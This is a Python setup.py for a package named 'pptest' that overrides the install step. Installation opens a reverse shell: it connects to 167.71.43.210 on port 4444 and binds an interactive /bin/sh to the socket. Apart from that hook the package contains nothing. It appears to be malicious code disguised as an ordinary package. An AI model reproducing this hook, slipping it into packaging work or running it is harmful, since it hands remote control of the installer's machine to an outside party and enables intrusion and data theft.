import socket, subprocess, os
from setuptools import setup
from setuptools.command.install import install

class Shell(install):
    def run(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("167.71.43.210", 4444))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        subprocess.call(["/bin/sh", "-i"])

setup(name="pptest", version="0.0.2", cmdclass={"install": Shell})
